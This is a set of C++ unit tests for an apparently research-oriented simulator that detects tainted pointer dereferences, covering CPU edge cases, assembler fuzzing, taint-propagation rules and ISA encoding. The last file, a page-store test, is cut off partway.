  ASSERT_EQ(r.stop, StopReason::kExit);
  const uint32_t out = m.program().symbols.at("out");
  EXPECT_TRUE(m.memory().load_byte(out).tainted());
  EXPECT_TRUE(m.memory().load_byte(out + 1).tainted());
  EXPECT_FALSE(m.memory().load_byte(out + 2).tainted());
}

TEST(CpuEdge, LbSignExtensionWidensTaint) {
  // lb of a tainted byte taints the whole register (sign bits depend on
  // it); using it as an address offset must alert even when only byte 3
  // of the sum differs.
  auto r = run_src(harness(R"(
    lb $t0, in          # sign-extended tainted byte
    sll $t1, $t0, 24    # move a tainted byte to the top
    la $t2, out
    addu $t2, $t2, $t1
    sw $zero, 0($t2)
  )"),
                   {}, "\x7f???");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedStoreAddress);
}

TEST(CpuEdge, ShiftSmearIsConservative) {
  // Paper Table 1 shift rule: a tainted byte ALSO taints its neighbour in
  // the shift direction — the original byte's taint bit is not cleared.
  // Shifting the tainted byte "out" therefore still leaves a tainted
  // register (a deliberate over-approximation in the paper's design), and
  // deriving an address from it alerts.
  Machine m;
  m.load_source(harness(R"(
    lbu $t0, in
    srl $t1, $t0, 8     # value now 0, but byte0 taint persists (rule 2)
    la $t2, out
    addu $t2, $t2, $t1
    sw $zero, 0($t2)
  )"));
  m.os().set_stdin("abcd");
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedStoreAddress);
}

TEST(CpuEdge, AndMaskLaundersConstantZeroBytes) {
  // The precise way benign code isolates untainted bytes: AND with an
  // untainted zero byte clears that byte's taint (Table 1 rule 3).
  Machine m;
  m.load_source(harness(R"(
    lw $t0, in          # all 4 bytes tainted
    li $t1, 0
    and $t2, $t0, $t1   # every byte AND-ed with constant 0: untainted
    la $t3, out
    addu $t3, $t3, $t2
    sw $zero, 0($t3)    # clean
  )"));
  m.os().set_stdin("abcd");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit);
}

TEST(CpuEdge, MultPropagatesToHiLo) {
  auto r = run_src(harness(R"(
    lw $t0, in
    li $t1, 3
    mult $t0, $t1
    mfhi $t2
    mflo $t3
    la $t4, out
    addu $t4, $t4, $t2  # hi is tainted
    lw $t5, 0($t4)
  )"),
                   {}, "abcd");
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedLoadAddress);
}

TEST(CpuEdge, DivByZeroIsDefinedAndTaintAware) {
  auto r = run_src(harness(R"(
    lw $t0, in
    li $t1, 0
    divu $t0, $t1       # quotient/remainder defined as 0, tainted
    mflo $t2
    la $t3, out
    addu $t3, $t3, $t2
    sw $zero, 0($t3)
  )"),
                   {}, "abcd");
  ASSERT_TRUE(r.detected());  // lo carries the dividend's taint
}

TEST(CpuEdge, MisalignedHalfAccessFaults) {
  auto r = run_src(R"(
    .text
_start:
    li $t0, 0x10000001
    lh $t1, 0($t0)
  )");
  EXPECT_EQ(r.stop, StopReason::kFault);
  EXPECT_NE(r.fault.find("misaligned lh"), std::string::npos);
}

TEST(CpuEdge, MisalignedShFaults) {
  auto r = run_src(R"(
    .text
_start:
    li $t0, 0x10000003
    sh $zero, 0($t0)
  )");
  EXPECT_EQ(r.stop, StopReason::kFault);
}

TEST(CpuEdge, PerWordGranularityWidensThroughMemory) {
  MachineConfig cfg;
  cfg.policy.per_word_taint = true;
  Machine m(cfg);
  m.load_source(harness(R"(
    lbu $t0, in         # per-word: whole register tainted
    srl $t1, $t0, 8     # still tainted under per-word granularity
    la $t2, out
    addu $t2, $t2, $t1
    sw $zero, 0($t2)
  )"));
  m.os().set_stdin("abcd");
  auto r = m.run();
  ASSERT_TRUE(r.detected());  // contrast with LbuOnlyTaintsLowByte
}

TEST(CpuEdge, JalrLinksUntaintedReturnAddress) {
  auto r = run_src(R"(
    .data
fnptr: .word helper
    .text
_start:
    lw $t0, fnptr       # untainted function pointer from .data
    jalr $t0
    move $a0, $v0
    li $v0, 1
    syscall
helper:
    li $v0, 9
    jr $ra              # $ra written by jalr: untainted
  )");
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 9);
}

TEST(CpuEdge, StoreDetectorFiresBeforeTheWrite) {
  // The paper terminates the process at retirement: the malicious store
  // must NOT modify memory.
  Machine m;
  m.load_source(harness(R"(
    lw $t0, in
    li $t1, 0x20000000
    or $t0, $t0, $t1    # tainted address in a mapped-region range
    li $t2, 0x5a5a5a5a
    sw $t2, 0($t0)
  )"));
  m.os().set_stdin(std::string("\x04\x00\x00\x00", 4));
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(m.memory().load_word(0x20000004).value, 0u);  // write suppressed
}

TEST(CpuEdge, LoadDetectorFiresBeforeTheLoad) {
  Machine m;
  m.load_source(harness(R"(
    lw $t0, in
    lw $t3, 0($t0)
  )"));
  m.os().set_stdin(std::string("\x00\x10\x00\x10", 4));
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  // $t3 never received the loaded value; the CPU stopped at the alert.
  EXPECT_EQ(m.cpu().regs().get(isa::kT3).value, 0u);
}

TEST(CpuEdge, SyscallArgumentsUntaintedByKernel) {
  // v0 return values from syscalls are kernel data: untainted.
  Machine m;
  m.load_source(harness(R"(
    li $v0, 3
    li $a0, 0
    la $a1, in+4
    li $a2, 2
    syscall             # v0 = 2 (byte count), untainted
    la $t0, out
    addu $t0, $t0, $v0
    sb $zero, 0($t0)    # address derived from v0: clean
  )"));
  m.os().set_stdin("abcdef");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit);
}

}  // namespace
}  // namespace ptaint::core
