// Property tests across tool layers:
//  * disassemble -> assemble -> encode is the identity for every operation;
//  * the assembler rejects malformed input with diagnostics, never crashes;
//  * assembled programs re-disassemble to the mnemonics they were written
//    with.
#include <gtest/gtest.h>

#include <random>

#include "asmgen/assembler.hpp"
#include "isa/isa.hpp"

namespace ptaint {
namespace {

using asmgen::assemble;
using asmgen::AssemblyError;
using isa::Instruction;
using isa::Op;

Instruction representative(Op op) {
  Instruction in;
  in.op = op;
  switch (isa::op_format(op)) {
    case isa::Format::kR:
      in.rd = 2;
      in.rs = 4;
      in.rt = 21;
      if (op == Op::kSll || op == Op::kSrl || op == Op::kSra) {
        in.rs = 0;  // canonical shift-immediate encoding has rs = 0
        in.shamt = 7;
      }
      if (op == Op::kJr) {
        in.rd = in.rt = 0;
      }
      if (op == Op::kJalr) {
        in.rd = 31;
        in.rt = 0;
      }
      if (op == Op::kMult || op == Op::kMultu || op == Op::kDiv ||
          op == Op::kDivu) {
        in.rd = 0;
      }
      if (op == Op::kTaintSet || op == Op::kTaintClr) in.rt = 0;
      if (op == Op::kMfhi || op == Op::kMflo) in.rs = in.rt = 0;
      if (op == Op::kMthi || op == Op::kMtlo) in.rd = in.rt = 0;
      if (op == Op::kSyscall || op == Op::kBreak) in.rd = in.rs = in.rt = 0;
      break;
    case isa::Format::kI:
      in.rt = 21;
      in.rs = 4;
      in.imm = (op == Op::kAndi || op == Op::kOri || op == Op::kXori)
                   ? 0x1234
                   : -28;
      if (op == Op::kLui) {
        in.rs = 0;
        in.imm = 0x1002;
      }
      if (op == Op::kBltz || op == Op::kBgez || op == Op::kBltzal ||
          op == Op::kBgezal || op == Op::kBlez || op == Op::kBgtz) {
        in.rt = 0;
      }
      break;
    case isa::Format::kJ:
      in.target = 0x00400100;
      break;
  }
  return in;
}

class DisasmAssembleRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(DisasmAssembleRoundTrip, Identity) {
  const Op op = static_cast<Op>(GetParam());
  const Instruction in = representative(op);
  const uint32_t pc = isa::layout::kTextBase;
  const std::string text = ".text\n" + isa::disassemble(in, pc) + "\n";
  asmgen::Program prog;
  ASSERT_NO_THROW(prog = assemble(text)) << text;
  ASSERT_EQ(prog.text.size(), 1u) << text;
  EXPECT_EQ(prog.text[0], isa::encode(in)) << text << " -> "
      << isa::disassemble(isa::decode(prog.text[0]), pc);
}

INSTANTIATE_TEST_SUITE_P(AllOps, DisasmAssembleRoundTrip,
                         ::testing::Range(static_cast<int>(Op::kSll),
                                          static_cast<int>(Op::kJal) + 1));

/// Randomized variant of `representative`: random register/immediate fields
/// with the same per-op canonical constraints the encoder demands.  Branch
/// and jump targets land inside a stream of `n` instructions at position
/// `index` so the disassembled text reassembles in any context.
Instruction randomized(Op op, std::mt19937& rng, size_t index, size_t n) {
  Instruction in = representative(op);
  auto reg = [&] { return static_cast<uint8_t>(rng() % 32); };
  auto simm = [&] { return static_cast<int32_t>(rng() % 0x10000) - 0x8000; };
  switch (isa::op_format(op)) {
    case isa::Format::kR:
      in.rd = reg();
      in.rs = reg();
      in.rt = reg();
      if (op == Op::kSll || op == Op::kSrl || op == Op::kSra) {
        in.rs = 0;
        in.shamt = static_cast<uint8_t>(rng() % 32);
      }
      if (op == Op::kJr) in.rd = in.rt = 0;
      if (op == Op::kJalr) {
        in.rd = 31;  // canonical link register form
        in.rt = 0;
      }
      if (op == Op::kMult || op == Op::kMultu || op == Op::kDiv ||
          op == Op::kDivu) {
        in.rd = 0;
      }
      if (op == Op::kTaintSet || op == Op::kTaintClr) in.rt = 0;
      if (op == Op::kMfhi || op == Op::kMflo) in.rs = in.rt = 0;
      if (op == Op::kMthi || op == Op::kMtlo) in.rd = in.rt = 0;
      if (op == Op::kSyscall || op == Op::kBreak) in.rd = in.rs = in.rt = 0;
      break;
    case isa::Format::kI:
      in.rt = reg();
      in.rs = reg();
      in.imm = simm();
      if (op == Op::kAndi || op == Op::kOri || op == Op::kXori) {
        in.imm = static_cast<int32_t>(rng() % 0x10000);
      }
      if (op == Op::kLui) {
        in.rs = 0;
        in.imm = static_cast<int32_t>(rng() % 0x10000);
      }
      if (isa::op_class(op) == isa::OpClass::kBranch) {
        if (op != Op::kBeq && op != Op::kBne) in.rt = 0;
        // Aim at a random instruction in the stream: offset (in words)
        // from the delay-free next pc.
        const auto target = static_cast<int32_t>(rng() % n);
        in.imm = target - static_cast<int32_t>(index) - 1;
      }
      break;
    case isa::Format::kJ:
      in.target = isa::layout::kTextBase +
                  4 * static_cast<uint32_t>(rng() % n);
      break;
  }
  return in;
}

// Satellite property test: disassemble -> assemble -> encode is the
// identity for EVERY operation under randomized fields, >= 10k cases.
TEST(AssemblerFuzz, RandomizedEveryOpRoundTrip10k) {
  std::mt19937 rng(0x5005);
  constexpr auto kFirst = static_cast<int>(Op::kSll);
  constexpr auto kLast = static_cast<int>(Op::kJal);
  constexpr size_t kRounds = 170;
  constexpr size_t kPerRound = 64;
  size_t cases = 0;

  for (size_t round = 0; round < kRounds; ++round) {
    // Every op at least once per round, padded with random picks.
    std::vector<Op> ops;
    for (int o = kFirst; o <= kLast; ++o) ops.push_back(static_cast<Op>(o));
    while (ops.size() < kPerRound) {
      ops.push_back(static_cast<Op>(kFirst + rng() % (kLast - kFirst + 1)));
    }

    std::string text = ".text\n";
    std::vector<Instruction> expected;
    for (size_t i = 0; i < ops.size(); ++i) {
      const Instruction in = randomized(ops[i], rng, i, ops.size());
      const uint32_t pc =
          isa::layout::kTextBase + 4 * static_cast<uint32_t>(i);
      text += isa::disassemble(in, pc) + "\n";
      expected.push_back(in);
    }

    asmgen::Program prog;
    ASSERT_NO_THROW(prog = assemble(text)) << text;
    ASSERT_EQ(prog.text.size(), expected.size());
    for (size_t i = 0; i < expected.size(); ++i) {
      ASSERT_EQ(prog.text[i], isa::encode(expected[i]))
          << "round " << round << " line " << i << ": "
          << isa::disassemble(expected[i],
                              isa::layout::kTextBase +
                                  4 * static_cast<uint32_t>(i));
      EXPECT_EQ(isa::decode(prog.text[i]), expected[i]);
      ++cases;
    }
  }
  EXPECT_GE(cases, 10'000u);
}

TEST(AssemblerFuzz, GarbageNeverCrashes) {
  std::mt19937 rng(20050628);  // DSN'05 started June 28, 2005
  const std::string alphabet =
      "abcdefghijklmnopqrstuvwxyz$0123456789 .,:()#\"\\-+\n\t%";
  for (int round = 0; round < 300; ++round) {
    std::string text = ".text\n";
    const int len = 1 + static_cast<int>(rng() % 120);
    for (int i = 0; i < len; ++i) {
      text.push_back(alphabet[rng() % alphabet.size()]);
    }
    try {
      auto prog = assemble(text);
      // If it assembled, it must decode to *something* printable.
      for (uint32_t word : prog.text) {
        (void)isa::disassemble(isa::decode(word));
      }
    } catch (const AssemblyError&) {
      // expected for most inputs
    }
  }
}

TEST(AssemblerFuzz, RandomValidInstructionStreamsRoundTrip) {
  std::mt19937 rng(7);
  for (int round = 0; round < 50; ++round) {
    std::string text = ".text\n";
    std::vector<Instruction> expected;
    const int n = 1 + static_cast<int>(rng() % 30);
    for (int i = 0; i < n; ++i) {
      // Stick to ops whose representative form round-trips context-free.
      static constexpr Op kPool[] = {
          Op::kAddu, Op::kSubu, Op::kAnd, Op::kOr,  Op::kXor,  Op::kNor,
          Op::kSlt,  Op::kSltu, Op::kSll, Op::kSrl, Op::kLw,   Op::kSw,
          Op::kLb,   Op::kLbu,  Op::kSb,  Op::kAddiu, Op::kOri, Op::kLui,
      };
      Instruction in = representative(kPool[rng() % std::size(kPool)]);
      in.rd = static_cast<uint8_t>(rng() % 32);
      in.rt = static_cast<uint8_t>(rng() % 32);
      in.rs = static_cast<uint8_t>(rng() % 32);
      if (in.op == Op::kSll || in.op == Op::kSrl) {
        in.rs = 0;
        in.shamt = static_cast<uint8_t>(rng() % 32);
      }
      if (isa::op_format(in.op) == isa::Format::kI) {
        in.rd = 0;
        in.shamt = 0;
        if (in.op == Op::kOri) {
          in.imm = static_cast<int32_t>(rng() % 0x10000);
        } else if (in.op == Op::kLui) {
          in.rs = 0;
          in.imm = static_cast<int32_t>(rng() % 0x10000);
        } else {
          in.imm = static_cast<int32_t>(rng() % 0x10000) - 0x8000;
        }
      }
      expected.push_back(in);
      text += isa::disassemble(in) + "\n";
    }
    asmgen::Program prog;
    ASSERT_NO_THROW(prog = assemble(text)) << text;
    ASSERT_EQ(prog.text.size(), expected.size());
    for (size_t i = 0; i < expected.size(); ++i) {
      EXPECT_EQ(isa::decode(prog.text[i]), expected[i])
          << "line " << i << ": " << isa::disassemble(expected[i]);
    }
  }
}

}  // namespace
}  // namespace ptaint
