// Unit tests for the ALU taintedness-tracking logic against the paper's
// Table 1, including each special-case rule and its ablation switch.
#include <gtest/gtest.h>

#include "cpu/taint_unit.hpp"

namespace ptaint::cpu {
namespace {

using isa::Instruction;
using isa::Op;
using mem::TaintedWord;

Instruction inst_of(Op op, uint8_t rs = 4, uint8_t rt = 5) {
  Instruction i;
  i.op = op;
  i.rs = rs;
  i.rt = rt;
  i.rd = 2;
  return i;
}

TaintOpResult eval(const TaintPolicy& policy, Op op, TaintedWord a,
                   TaintedWord b, bool b_imm = false, uint8_t rs = 4,
                   uint8_t rt = 5) {
  TaintUnit unit(policy);
  TaintOpInputs in;
  in.inst = inst_of(op, rs, rt);
  in.a = a;
  in.b = b;
  in.b_is_immediate = b_imm;
  return unit.propagate(in);
}

TEST(Table1Default, PerByteOrMerge) {
  TaintPolicy p;
  auto r = eval(p, Op::kAddu, {1, 0b0001}, {2, 0b1000});
  EXPECT_EQ(r.result_taint, 0b1001);
  EXPECT_FALSE(r.untaint_sources);
}

TEST(Table1Default, UntaintedStaysUntainted) {
  TaintPolicy p;
  EXPECT_EQ(eval(p, Op::kSubu, {5}, {7}).result_taint, mem::kUntainted);
  EXPECT_EQ(eval(p, Op::kOr, {5}, {7}).result_taint, mem::kUntainted);
}

TEST(Table1Shift, LeftShiftSmearsUp) {
  TaintPolicy p;
  // Byte 0 tainted; after a left shift its neighbour byte 1 is also tainted.
  auto r = eval(p, Op::kSll, {0x61, 0b0001}, {8}, true);
  EXPECT_EQ(r.result_taint, 0b0011);
}

TEST(Table1Shift, RightShiftSmearsDown) {
  TaintPolicy p;
  auto r = eval(p, Op::kSrl, {0x61000000, 0b1000}, {8}, true);
  EXPECT_EQ(r.result_taint, 0b1100);
}

TEST(Table1Shift, TaintedShiftAmountTaintsAll) {
  TaintPolicy p;
  auto r = eval(p, Op::kSllv, {0x61, 0b0000}, {4, 0b0001});
  EXPECT_EQ(r.result_taint, mem::kAllTainted);
}

TEST(Table1Shift, DisabledFallsBackToOrMerge) {
  TaintPolicy p;
  p.shift_smear = false;
  auto r = eval(p, Op::kSll, {0x61, 0b0001}, {8}, true);
  EXPECT_EQ(r.result_taint, 0b0001);
}

TEST(Table1And, UntaintedZeroClearsByte) {
  TaintPolicy p;
  // Tainted word AND-ed with untainted 0x000000ff: bytes 1..3 are AND-ed
  // with constant zero and untaint; byte 0 stays tainted.
  auto r = eval(p, Op::kAnd, {0x61626364, mem::kAllTainted}, {0x000000ff});
  EXPECT_EQ(r.result_taint, 0b0001);
}

TEST(Table1And, TaintedZeroDoesNotClear) {
  TaintPolicy p;
  // The zero byte itself is tainted -> attacker could change it -> no trust.
  auto r = eval(p, Op::kAnd, {0x61, 0b0001}, {0x00, 0b0001});
  EXPECT_EQ(r.result_taint, 0b0001);
}

TEST(Table1And, NonZeroMaskMerges) {
  TaintPolicy p;
  auto r = eval(p, Op::kAnd, {0x61626364, 0b1111}, {0xffffffff});
  EXPECT_EQ(r.result_taint, 0b1111);
}

TEST(Table1And, AndiImmediateMask) {
  TaintPolicy p;
  // andi rt, rs, 0xff: upper immediate bytes are constant zero.
  auto r = eval(p, Op::kAndi, {0x61626364, mem::kAllTainted}, {0xff}, true);
  EXPECT_EQ(r.result_taint, 0b0001);
}

TEST(Table1And, DisabledMergesEverything) {
  TaintPolicy p;
  p.and_zero_untaints = false;
  auto r = eval(p, Op::kAnd, {0x61626364, mem::kAllTainted}, {0xff});
  EXPECT_EQ(r.result_taint, mem::kAllTainted);
}

TEST(Table1Xor, SelfXorUntaints) {
  TaintPolicy p;
  // xor $2,$5,$5 (zeroing idiom): result is constant 0.
  auto r = eval(p, Op::kXor, {0x61616161, mem::kAllTainted},
                {0x61616161, mem::kAllTainted}, false, 5, 5);
  EXPECT_EQ(r.result_taint, mem::kUntainted);
}

TEST(Table1Xor, DistinctRegistersMerge) {
  TaintPolicy p;
  auto r = eval(p, Op::kXor, {1, 0b0001}, {2, 0b0010}, false, 4, 5);
  EXPECT_EQ(r.result_taint, 0b0011);
}

TEST(Table1Xor, DisabledIdiomStillMerges) {
  TaintPolicy p;
  p.xor_self_untaints = false;
  auto r = eval(p, Op::kXor, {7, 0b0100}, {7, 0b0100}, false, 5, 5);
  EXPECT_EQ(r.result_taint, 0b0100);
}

TEST(Table1Compare, UntaintsOperandsAndResult) {
  TaintPolicy p;
  auto r = eval(p, Op::kSlt, {100, mem::kAllTainted}, {200});
  EXPECT_EQ(r.result_taint, mem::kUntainted);
  EXPECT_TRUE(r.untaint_sources);
}

TEST(Table1Compare, DisabledKeepsTaint) {
  TaintPolicy p;
  p.compare_untaints = false;
  auto r = eval(p, Op::kSltu, {100, 0b0001}, {200});
  EXPECT_EQ(r.result_taint, 0b0001);
  EXPECT_FALSE(r.untaint_sources);
}

TEST(Granularity, PerWordTaintWidens) {
  TaintPolicy p;
  p.per_word_taint = true;
  auto r = eval(p, Op::kAddu, {1, 0b0001}, {2});
  EXPECT_EQ(r.result_taint, mem::kAllTainted);
}

TEST(Stats, CountsTaintedEvaluations) {
  TaintPolicy p;
  TaintUnit unit(p);
  TaintOpInputs in;
  in.inst = inst_of(Op::kAddu);
  in.a = {1, 0b0001};
  in.b = {2};
  unit.propagate(in);
  in.a = {1};
  unit.propagate(in);
  EXPECT_EQ(unit.stats().evaluations, 2u);
  EXPECT_EQ(unit.stats().tainted_evaluations, 1u);
}

TEST(GateCost, SmallCombinationalBlock) {
  // The tracking logic must be tiny relative to a 32-bit ALU (~1000+ gates);
  // this pins the order of magnitude used in the Section 5.4 area argument.
  EXPECT_GT(TaintUnit::gate_cost(), 0);
  EXPECT_LT(TaintUnit::gate_cost(), 200);
}

// Property sweep: for every default-class ALU op, result taint is exactly
// the OR of source taints — no taint is invented or lost.
class OrMergeProperty : public ::testing::TestWithParam<
                            std::tuple<int, int, int>> {};

TEST_P(OrMergeProperty, Holds) {
  const auto [op_raw, ta, tb] = GetParam();
  TaintPolicy p;
  auto r = eval(p, static_cast<Op>(op_raw), {0x1234, static_cast<uint8_t>(ta)},
                {0x5678, static_cast<uint8_t>(tb)});
  EXPECT_EQ(r.result_taint, ta | tb);
}

INSTANTIATE_TEST_SUITE_P(
    DefaultAluOps, OrMergeProperty,
    ::testing::Combine(
        ::testing::Values(static_cast<int>(Op::kAdd),
                          static_cast<int>(Op::kAddu),
                          static_cast<int>(Op::kSub),
                          static_cast<int>(Op::kSubu),
                          static_cast<int>(Op::kOr),
                          static_cast<int>(Op::kNor)),
        ::testing::Range(0, 16), ::testing::Values(0, 1, 5, 15)));

}  // namespace
}  // namespace ptaint::cpu
