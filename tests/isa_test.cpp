// Unit tests for the PTA-32 ISA: register naming, op metadata, and
// encode/decode round-trips over the whole instruction set.
#include <gtest/gtest.h>

#include "isa/isa.hpp"

namespace ptaint::isa {
namespace {

TEST(RegNames, CanonicalNames) {
  EXPECT_EQ(reg_name(0), "$zero");
  EXPECT_EQ(reg_name(2), "$v0");
  EXPECT_EQ(reg_name(29), "$sp");
  EXPECT_EQ(reg_name(31), "$ra");
}

TEST(RegNames, ParseNumeric) {
  EXPECT_EQ(parse_reg("$0"), 0);
  EXPECT_EQ(parse_reg("$31"), 31);
  EXPECT_EQ(parse_reg("$21"), 21);
  EXPECT_FALSE(parse_reg("$32").has_value());
  EXPECT_FALSE(parse_reg("$-1").has_value());
}

TEST(RegNames, ParseSymbolic) {
  EXPECT_EQ(parse_reg("$v0"), kV0);
  EXPECT_EQ(parse_reg("$sp"), kSp);
  EXPECT_EQ(parse_reg("sp"), kSp);
  EXPECT_EQ(parse_reg("$s5"), 21);
  EXPECT_EQ(parse_reg("$s8"), kFp);
  EXPECT_FALSE(parse_reg("$xx").has_value());
  EXPECT_FALSE(parse_reg("").has_value());
}

TEST(OpMetadata, MnemonicRoundTrip) {
  for (int raw = static_cast<int>(Op::kSll); raw <= static_cast<int>(Op::kJal);
       ++raw) {
    const Op op = static_cast<Op>(raw);
    auto back = op_from_mnemonic(mnemonic(op));
    ASSERT_TRUE(back.has_value()) << mnemonic(op);
    EXPECT_EQ(*back, op);
  }
}

TEST(OpMetadata, ClassesMatchPaperTable1) {
  // Table 1 categories: default ALU, shift, AND, XOR, compare.
  EXPECT_EQ(op_class(Op::kAddu), OpClass::kAlu);
  EXPECT_EQ(op_class(Op::kSll), OpClass::kShift);
  EXPECT_EQ(op_class(Op::kSrav), OpClass::kShift);
  EXPECT_EQ(op_class(Op::kAnd), OpClass::kLogicAnd);
  EXPECT_EQ(op_class(Op::kAndi), OpClass::kLogicAnd);
  EXPECT_EQ(op_class(Op::kXor), OpClass::kLogicXor);
  EXPECT_EQ(op_class(Op::kSlt), OpClass::kCompare);
  EXPECT_EQ(op_class(Op::kSltiu), OpClass::kCompare);
  // Detection points.
  EXPECT_EQ(op_class(Op::kLw), OpClass::kLoad);
  EXPECT_EQ(op_class(Op::kSb), OpClass::kStore);
  EXPECT_EQ(op_class(Op::kJr), OpClass::kJumpReg);
  EXPECT_EQ(op_class(Op::kJalr), OpClass::kJumpReg);
  EXPECT_EQ(op_class(Op::kBeq), OpClass::kBranch);
}

Instruction make_r(Op op, uint8_t rd, uint8_t rs, uint8_t rt,
                   uint8_t shamt = 0) {
  Instruction i;
  i.op = op;
  i.rd = rd;
  i.rs = rs;
  i.rt = rt;
  i.shamt = shamt;
  return i;
}

Instruction make_i(Op op, uint8_t rt, uint8_t rs, int32_t imm) {
  Instruction i;
  i.op = op;
  i.rt = rt;
  i.rs = rs;
  i.imm = imm;
  return i;
}

TEST(Encoding, RTypeRoundTrip) {
  const Instruction in = make_r(Op::kAddu, 3, 4, 5);
  EXPECT_EQ(decode(encode(in)), in);
}

TEST(Encoding, ShiftRoundTrip) {
  const Instruction in = make_r(Op::kSll, 7, 0, 8, 13);
  EXPECT_EQ(decode(encode(in)), in);
}

TEST(Encoding, ITypeNegativeImmediate) {
  const Instruction in = make_i(Op::kAddiu, 29, 29, -32);
  const Instruction out = decode(encode(in));
  EXPECT_EQ(out.op, Op::kAddiu);
  EXPECT_EQ(out.imm, -32);
}

TEST(Encoding, LogicalImmediateZeroExtends) {
  const Instruction in = make_i(Op::kOri, 2, 0, 0xbc20);
  const Instruction out = decode(encode(in));
  EXPECT_EQ(out.imm, 0xbc20);  // not sign-extended
}

TEST(Encoding, LoadStoreRoundTrip) {
  const Instruction in = make_i(Op::kSw, 21, 3, 0);
  EXPECT_EQ(decode(encode(in)), in);
  const Instruction neg = make_i(Op::kLw, 3, 3, -4);
  EXPECT_EQ(decode(encode(neg)), neg);
}

TEST(Encoding, JumpTargetRoundTrip) {
  Instruction in;
  in.op = Op::kJal;
  in.target = 0x0040'1234;
  const Instruction out = decode(encode(in));
  EXPECT_EQ(out.op, Op::kJal);
  EXPECT_EQ(out.target, 0x0040'1234u);
}

TEST(Encoding, RegimmBranchesRoundTrip) {
  for (Op op : {Op::kBltz, Op::kBgez, Op::kBltzal, Op::kBgezal}) {
    const Instruction in = make_i(op, 0, 9, -16);
    const Instruction out = decode(encode(in));
    EXPECT_EQ(out.op, op);
    EXPECT_EQ(out.rs, 9);
    EXPECT_EQ(out.imm, -16);
  }
}

TEST(Encoding, SyscallRoundTrip) {
  const Instruction in = make_r(Op::kSyscall, 0, 0, 0);
  EXPECT_EQ(decode(encode(in)).op, Op::kSyscall);
}

TEST(Encoding, InvalidWordDecodesInvalid) {
  EXPECT_EQ(decode(0xffffffffu).op, Op::kInvalid);
}

// Property sweep: every op round-trips with representative operands.
class EncodeRoundTrip : public ::testing::TestWithParam<int> {};

TEST_P(EncodeRoundTrip, AllOps) {
  const Op op = static_cast<Op>(GetParam());
  Instruction in;
  in.op = op;
  switch (op_format(op)) {
    case Format::kR:
      in.rd = 3;
      in.rs = 4;
      in.rt = 21;
      if (op_class(op) == OpClass::kShift &&
          (op == Op::kSll || op == Op::kSrl || op == Op::kSra)) {
        in.shamt = 9;
      }
      break;
    case Format::kI:
      in.rt = 21;
      in.rs = 3;
      in.imm = (op == Op::kAndi || op == Op::kOri || op == Op::kXori)
                   ? 0x8001
                   : -17;
      if (op == Op::kBltz || op == Op::kBgez || op == Op::kBltzal ||
          op == Op::kBgezal) {
        in.rt = 0;  // selector field occupies rt
      }
      if (op == Op::kLui) {
        in.rs = 0;
        in.imm = 0x7fff;
      }
      break;
    case Format::kJ:
      in.rs = in.rt = in.rd = 0;
      in.target = 0x00400040;
      break;
  }
  EXPECT_EQ(decode(encode(in)), in) << mnemonic(op);
}

INSTANTIATE_TEST_SUITE_P(AllOps, EncodeRoundTrip,
                         ::testing::Range(static_cast<int>(Op::kSll),
                                          static_cast<int>(Op::kJal) + 1));

TEST(Disasm, PaperAlertStyle) {
  // The WU-FTPD alert in Table 2 reads "sw $21,0($3)".
  const Instruction sw = make_i(Op::kSw, 21, 3, 0);
  EXPECT_EQ(disassemble(sw), "sw $21,0($3)");
  const Instruction lw = make_i(Op::kLw, 3, 3, 0);
  EXPECT_EQ(disassemble(lw), "lw $3,0($3)");
  const Instruction jr = make_r(Op::kJr, 0, 31, 0);
  EXPECT_EQ(disassemble(jr), "jr $31");
}

TEST(Disasm, BranchTargetAbsolute) {
  Instruction b = make_i(Op::kBne, 5, 4, 3);  // +12 bytes after pc+4
  EXPECT_EQ(disassemble(b, 0x400000), "bne $4,$5,0x400010");
}

}  // namespace
}  // namespace ptaint::isa
