// Content-addressed page store and the store-backed snapshot cache
// (DESIGN.md §13): exact interning with full-content collision handling,
// PackBits RLE round-trips over every plane, the compressed and disk
// fetch tiers, restart rehydration from a prior process's directory, the
// dehydrate/hydrate snapshot codec, and the SnapshotCache re-platformed
// on top of it all.  The concurrency stress runs under the TSan leg
// (PageStore* is in its filter).
#include <gtest/gtest.h>

#include <algorithm>
#include <bit>
#include <cstdint>
#include <cstdlib>
#include <filesystem>
#include <memory>
#include <random>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "campaign/snapshot_cache.hpp"
#include "core/attack.hpp"
#include "core/machine.hpp"
#include "core/snapshot_io.hpp"
#include "mem/page_store.hpp"

namespace ptaint {
namespace {

using core::MachineSnapshot;
using mem::PageStore;
using Page = mem::TaintedMemory::Page;

std::string make_temp_dir() {
  char tmpl[] = "/tmp/ptaint_page_store_test.XXXXXX";
  const char* dir = ::mkdtemp(tmpl);
  EXPECT_NE(dir, nullptr);
  return dir ? dir : "";
}

bool same_planes(const Page& a, const Page& b) {
  return a.data == b.data && a.taint == b.taint && a.aprov == b.aprov &&
         a.tainted_bytes == b.tainted_bytes && a.addr_bytes == b.addr_bytes;
}

/// Recomputes the derived summaries so hand-built pages obey the Page
/// invariants (decompress_page rebuilds them the same way).
void fix_summaries(Page& p) {
  uint32_t tainted = 0;
  for (uint8_t b : p.taint) tainted += std::popcount(b);
  p.tainted_bytes = tainted;
  uint32_t addr = 0;
  for (uint8_t b : p.aprov) {
    addr += (b & 0x0F) ? 1 : 0;
    addr += (b & 0xF0) ? 1 : 0;
  }
  p.addr_bytes = addr;
}

/// Pseudo-random page content: long runs (the RLE fast path) mixed with
/// noise, sparse-but-arbitrary taint bits, and address-provenance nibbles
/// drawn from every value the plane layout allows (data bit clear).
std::shared_ptr<Page> random_page(std::mt19937& rng) {
  auto p = std::make_shared<Page>();
  size_t i = 0;
  while (i < p->data.size()) {
    const size_t len = std::min<size_t>(1 + rng() % 300, p->data.size() - i);
    if (rng() % 2) {
      std::fill_n(p->data.begin() + i, len, static_cast<uint8_t>(rng()));
    } else {
      for (size_t j = 0; j < len; ++j) {
